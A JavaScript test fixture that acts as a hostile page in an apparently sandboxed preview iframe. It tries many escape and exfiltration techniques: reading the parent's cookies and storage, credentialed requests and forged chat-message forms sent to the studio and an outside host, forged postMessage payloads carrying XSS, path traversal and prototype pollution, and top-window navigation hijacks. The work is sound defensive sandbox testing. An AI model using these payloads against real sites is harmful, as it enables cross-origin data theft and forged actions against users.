// What a hostile page in the preview tries. STUDIO, PREVIEW and OUTSIDE are put in by the test. Whatever it can read goes
// into `got`; whatever it can send carries the word "leak", which the test looks for in every server's log.
const got = [];
const bases = { studio: STUDIO, preview: PREVIEW, outside: OUTSIDE };
const API = ["/api/projects/1/files", "/api/chat/conversations/1", "/projects/1/editor"];
const every = (path) => Object.entries(bases).map(([name, base]) => `${base}${path}?leak-${name}`);
const sleep = (time) => new Promise((done) => setTimeout(done, time));

/** Each attempt may throw, hang or succeed; none may stop the next one. */
async function attempt(name, act) {
  try {
    const found = await Promise.race([act(), sleep(1500)]);
    if (found !== undefined && found !== null && found !== false && found !== "")
      got.push(`${name}: ${String(found)}`);
  } catch {
    // held
  }
}

const reads = {
  "parent's document": () => parent.document.title,
  "top's document": () => top.document.cookie,
  "parent's address": () => parent.location.href,
  "parent's storage": () => parent.localStorage.length + 1,
  "parent's script": () => parent.eval("1"),
  opener: () => window.opener,
  "frame element": () => window.frameElement,
  cookies: () => Object.getOwnPropertyDescriptor(Document.prototype, "cookie").get.call(document),
  databases: () =>
    new Promise((done) => {
      const asked = indexedDB.open("leak");
      asked.onsuccess = () => done("open");
      asked.onerror = () => done("");
    }),
  caches: () => caches.open("leak").then(() => "open"),
  "cookie store": () => cookieStore.getAll().then((all) => all.length),
  "storage access": () => document.requestStorageAccess().then(() => "granted"),
  "service worker": () => navigator.serviceWorker.register("sw.js").then(() => "registered"),
  "shared worker": () => new SharedWorker("sw.js") && sleep(300),
  clipboard: () => navigator.clipboard.readText().then(() => "read"),
  camera: () => navigator.mediaDevices.getUserMedia({ video: true }).then(() => "seen"),
  place: () =>
    new Promise((done) =>
      navigator.geolocation.getCurrentPosition(
        () => done("known"),
        () => done(""),
      ),
    ),
  notification: () => Notification.requestPermission().then((answer) => answer === "granted"),
  popup: () => window.open(`${STUDIO}/?leak-popup`),
  dialog: () => {
    const frame = document.createElement("iframe");
    frame.srcdoc = "<script>alert('leak')</script>";
    document.body.append(frame);
  },
  origin: () => (window.origin === "null" ? "" : window.origin),
};

const sends = {
  fetch: () =>
    Promise.allSettled(
      API.flatMap(every).flatMap((address) => [
        fetch(address, { credentials: "include" }).then((answer) =>
          got.push(`fetch ${answer.status} ${address}`),
        ),
        fetch(address, { credentials: "include", mode: "no-cors" }).then(() =>
          got.push(`no-cors ${address}`),
        ),
        fetch(address, {
          method: "POST",
          mode: "no-cors",
          credentials: "include",
          body: '{"project_id":1,"content":"leak"}',
        }),
        fetch(address, { keepalive: true, mode: "no-cors", method: "POST", body: "leak" }),
      ]),
    ).then(() => ""),
  xhr: () => {
    for (const address of every("/api/chat/message")) {
      const request = new XMLHttpRequest();
      request.open("POST", address);
      request.withCredentials = true;
      request.send('{"project_id":1,"content":"leak"}');
    }
  },
  beacon: () => every("/api/chat/message").map((address) => navigator.sendBeacon(address, "leak")) && "",
  sockets: () => every("/leak").map((address) => new WebSocket(address.replace("http", "ws"))) && "",
  events: () =>
    every("/api/projects/1/events").map((address) => new EventSource(address, { withCredentials: true })) &&
    "",
  images: () =>
    every("/static/icon.svg").map((address) => Object.assign(new Image(), { src: address })) && "",
  markup: () => {
    for (const address of every("/static/dist/editor.js")) {
      const holder = document.createElement("div");
      holder.innerHTML = `
        <link rel="stylesheet" href="${address}"><link rel="preload" as="script" href="${address}">
        <link rel="prefetch" href="${address}"><link rel="modulepreload" href="${address}">
        <link rel="icon" href="${address}"><link rel="manifest" href="${address}">
        <video src="${address}" poster="${address}"></video><audio src="${address}"></audio>
        <embed src="${address}"><object data="${address}"></object>
        <iframe src="${address}"></iframe><iframe src="${address}" name="leak"></iframe>
        <img srcset="${address} 2x"><svg><image href="${address}"/><use href="${address}#a"/></svg>
        <p style="background: url(${address}); list-style-image: url(${address})">leak</p>
        <style>@import url(${address}); @font-face { font-family: l; src: url(${address}) } p { font-family: l }</style>`;
      document.body.append(holder);
    }
  },
  scripts: () => {
    for (const address of every("/static/dist/editor.js")) {
      document.body.append(Object.assign(document.createElement("script"), { src: address }));
      const module = Object.assign(document.createElement("script"), { src: address, type: "module" });
      document.body.append(module);
      import(address).then(
        () => got.push(`imported ${address}`),
        () => {},
      );
    }
  },
  forms: () => {
    for (const address of every("/api/chat/message")) {
      for (const [method, target] of [
        ["post", "inner"],
        ["get", "inner"],
        ["post", "_blank"],
        ["post", "_top"],
        ["get", "_parent"],
      ]) {
        const form = Object.assign(document.createElement("form"), {
          action: address,
          method,
          target,
          enctype: "text/plain",
        });
        form.innerHTML =
          '<input name="{&quot;project_id&quot;:1,&quot;content&quot;:&quot;leak" value="&quot;}">';
        document.body.append(form);
        form.submit();
      }
    }
  },
  links: () => {
    for (const address of every("/projects/1/editor")) {
      for (const target of ["_blank", "_top", "_parent", "inner"]) {
        const link = Object.assign(document.createElement("a"), {
          href: address,
          target,
          ping: address,
          textContent: "leak",
        });
        document.body.append(link);
        link.dispatchEvent(new MouseEvent("click", { bubbles: false }));
      }
    }
  },
  download: () => {
    const link = Object.assign(document.createElement("a"), {
      href: "data:text/plain,leak",
      download: "leak.txt",
    });
    document.body.append(link);
    link.dispatchEvent(new MouseEvent("click", { bubbles: false }));
  },
  base: () => {
    document.head.append(Object.assign(document.createElement("base"), { href: `${OUTSIDE}/leak/` }));
    document.body.append(Object.assign(new Image(), { src: "leak-base.png" }));
  },
  policy: () => {
    const meta = document.createElement("meta");
    meta.httpEquiv = "Content-Security-Policy";
    meta.content = `default-src *; connect-src *; report-uri ${OUTSIDE}/leak-report`;
    document.head.append(meta);
  },
  workers: () => {
    const code = every("/api/projects/1/files")
      .map((address) => `fetch("${address}").catch(() => {});`)
      .join("");
    new Worker(URL.createObjectURL(new Blob([code], { type: "text/javascript" })));
    new Worker(`data:text/javascript,${encodeURIComponent(code)}`);
  },
  "nested frames": () => {
    const code = `<script>${every("/api/projects/1/files")
      .map((address) => `fetch("${address}").catch(() => {}); new Image().src = "${address}";`)
      .join("")}
      try { top.location = "${STUDIO}/?leak-nested" } catch {}</${"script"}>`;
    const blob = URL.createObjectURL(new Blob([code], { type: "text/html" }));
    for (const src of [`data:text/html,${encodeURIComponent(code)}`, blob, `javascript:'${code}'`]) {
      document.body.append(Object.assign(document.createElement("iframe"), { src }));
    }
    const allowed = Object.assign(document.createElement("iframe"), { srcdoc: code });
    allowed.setAttribute("sandbox", "allow-same-origin allow-scripts allow-top-navigation allow-popups");
    document.body.append(allowed);
  },
  "own page in a frame": () => {
    if (parent !== top) return; // that is the framed one, which tries all of this
    document.body.append(Object.assign(document.createElement("iframe"), { src: location.href }));
  },
  "a frame of another preview": () => {
    const other = location.href.replace(/\/preview\/[^/]+/, "/preview/leak");
    document.body.append(Object.assign(document.createElement("iframe"), { src: other }));
  },
  "the studio's tab": () => {
    for (const act of [
      () => (top.location = `${STUDIO}/?leak-top`),
      () => top.location.replace(`${OUTSIDE}/?leak-top`),
      () => parent.location.assign(`${OUTSIDE}/?leak-parent`),
      () => (top.location.href = "javascript:document.title='leak'"),
      () => top.close(),
      () => parent.focus(),
    ]) {
      try {
        act();
      } catch {
        // held
      }
    }
  },
  calls: () => {
    for (const urls of [`stun:${OUTSIDE.slice(7)}`, `turn:${OUTSIDE.slice(7)}?transport=tcp`]) {
      const call = new RTCPeerConnection({ iceServers: [{ urls, username: "leak", credential: "leak" }] });
      call.createDataChannel("leak");
      call.createOffer().then((offer) => call.setLocalDescription(offer));
    }
  },
  ahead: () => {
    for (const rel of ["preconnect", "dns-prefetch", "prefetch", "prerender"]) {
      document.head.append(Object.assign(document.createElement("link"), { rel, href: `${OUTSIDE}/leak` }));
    }
    const rules = JSON.stringify({
      prefetch: [{ source: "list", urls: [`${OUTSIDE}/leak`] }],
      prerender: [{ source: "list", urls: [`${OUTSIDE}/leak`] }],
    });
    document.head.append(
      Object.assign(document.createElement("script"), { type: "speculationrules", textContent: rules }),
    );
    new WebTransport(OUTSIDE.replace("http:", "https:"));
  },
  messages: () => {
    const forged = [
      { webox: "studio", type: "reload" },
      {
        webox: "preview",
        type: "log",
        level: "error",
        uncaught: true,
        text: "<img src=x onerror=document.title='leak'>",
        file: "../../etc/passwd",
        line: -1,
      },
      { webox: "preview", type: "outside", address: "javascript:document.title='leak'" },
      { webox: "preview", type: "where", path: "https://leak.example/" },
      {
        webox: "preview",
        type: "ready",
        path: "../../../api/projects/1/files?leak-path",
        title: { toString: () => "leak" },
      },
      { webox: "preview", type: "constructor" },
      { webox: "preview", type: "__proto__", __proto__: { polluted: true } },
      { webox: "preview", type: "log", text: "x".repeat(2_000_000) },
      null,
      "leak",
      [],
    ];
    for (const message of forged) parent.postMessage(message, "*");
  },
  name: () => {
    window.name = "leak";
  },
};

async function tryEverything() {
  for (const [name, act] of Object.entries(reads)) await attempt(name, act);
  for (const [name, act] of Object.entries(sends)) await attempt(name, act);
  await sleep(1500);
  const where = parent === top ? "" : " in a frame";
  console.log(`tried everything${where}, got ${JSON.stringify(got)}`);
}
tryEverything();
